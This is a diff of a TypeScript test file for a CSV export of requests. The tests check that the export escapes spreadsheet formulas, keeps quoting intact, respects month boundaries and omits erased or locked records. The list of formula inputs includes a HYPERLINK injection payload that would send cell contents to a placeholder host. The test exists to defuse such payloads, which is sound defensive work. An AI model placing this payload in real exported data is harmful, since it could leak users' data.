@@ -1,19 +1,19 @@
 import { afterAll, expect, test } from 'vitest';
-import { csvCell } from '#desk/requests/csv.ts';
-import { exportRequests, spanOf } from '#desk/requests/export.ts';
 import { eraseStatements, lockStatements } from '#requests/erase.ts';
+import { csvCell } from '#requests/lists/csv.ts';
+import { exportRequests, spanOf } from '#requests/lists/export.ts';
 import { endDatabases } from '#tests/databases.ts';
-import { aFriday, day, keepingBench } from '#tests/desk/keeping-bench.ts';
+import { aFriday, day, requestsBench } from '#tests/desk/requests-bench.ts';
 
 afterAll(endDatabases);
 
 const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '=HYPERLINK("http://x.test?"&A1)'];
 
-test.each(formulas)('a cell that begins with a formula is defused: %j', (text) => {
+test.each(formulas)('csv cell defuses the formula %j', (text) => {
   expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
 });
 
-test('a cell keeps its marks and lines', () => {
+test('csv cell keeps quotation marks and line ends', () => {
   expect([csvCell('a "b", c\nd'), csvCell(null), csvCell(3), csvCell('2 - 1 = 1')]).toEqual([
     '"a ""b"", c\nd"',
     '""',
@@ -29,10 +29,10 @@ async function piecesOf(stream: ReadableStream<Uint8Array>): Promise<ReadonlyArr
   return pieces;
 }
 
-test('the file comes in pieces and holds every request once', async () => {
-  const bench = await keepingBench();
+test('export streams every request once', async () => {
+  const bench = await requestsBench();
   for (let at = 0; at < 50; at += 1) await bench.put({ name: `=N${at}.`, at: aFriday + Math.floor(at / 30), reference: `GI-${at}` });
-  const pieces = await piecesOf(exportRequests(bench.requests, bench.ring, 'all', 20));
+  const pieces = await piecesOf(exportRequests(bench.db, bench.ring, 'all', 20));
   expect(pieces.length).toBe(4);
   expect(pieces[0]?.startsWith('\uFEFF"Reference","Kind","Received"')).toBe(true);
   const text = pieces.join('');
@@ -40,9 +40,9 @@ test('the file comes in pieces and holds every request once', async () => {
   for (let at = 0; at < 50; at += 1) expect(text.split(`"'=N${at}."`).length).toBe(2);
 });
 
-test('a month begins and ends on the practice’s clock', async () => {
+test('export of a month follows the practice’s clock', async () => {
   expect(spanOf('2026-12')).toEqual({ from: Date.parse('2026-12-01T00:00+05:30'), to: Date.parse('2027-01-01T00:00+05:30') });
-  const bench = await keepingBench();
+  const bench = await requestsBench();
   for (const [name, at] of [
     ['Before', '2026-10-31T23:59'],
     ['First', '2026-11-01T00:00'],
@@ -50,17 +50,17 @@ test('a month begins and ends on the practice’s clock', async () => {
     ['After', '2026-12-01T00:00'],
   ] as const)
     await bench.put({ name, at: Date.parse(`${at}+05:30`) });
-  const text = (await piecesOf(exportRequests(bench.requests, bench.ring, '2026-11'))).join('');
+  const text = (await piecesOf(exportRequests(bench.db, bench.ring, '2026-11'))).join('');
   expect(['Before', 'First', 'Last', 'After'].filter((name) => text.includes(`"${name}"`))).toEqual(['First', 'Last']);
 });
 
-test('nobody who was erased or locked is in the file', async () => {
-  const bench = await keepingBench();
+test('export leaves erased and locked requests out', async () => {
+  const bench = await requestsBench();
   await bench.put({ name: 'Stays', reference: 'GI-AAAA-22' });
   await bench.put({ name: 'Locked', reference: 'GI-AAAA-23' });
   await bench.put({ name: 'Erased', reference: 'GI-AAAA-24' });
-  await bench.requests.batch(lockStatements(bench.requests, { where: 'reference = ?1', bind: ['GI-AAAA-23'] }, aFriday + day));
-  await bench.requests.batch(eraseStatements(bench.requests, { where: 'reference = ?1', bind: ['GI-AAAA-24'] }));
-  const text = (await piecesOf(exportRequests(bench.requests, bench.ring, 'all'))).join('');
+  await bench.db.batch(lockStatements(bench.db, { where: 'reference = ?1', bind: ['GI-AAAA-23'] }, aFriday + day));
+  await bench.db.batch(eraseStatements(bench.db, { where: 'reference = ?1', bind: ['GI-AAAA-24'] }, aFriday));
+  const text = (await piecesOf(exportRequests(bench.db, bench.ring, 'all'))).join('');
   expect(['Stays', 'Locked', 'Erased', 'GI-AAAA-23', 'GI-AAAA-24'].filter((each) => text.includes(each))).toEqual(['Stays']);
 });
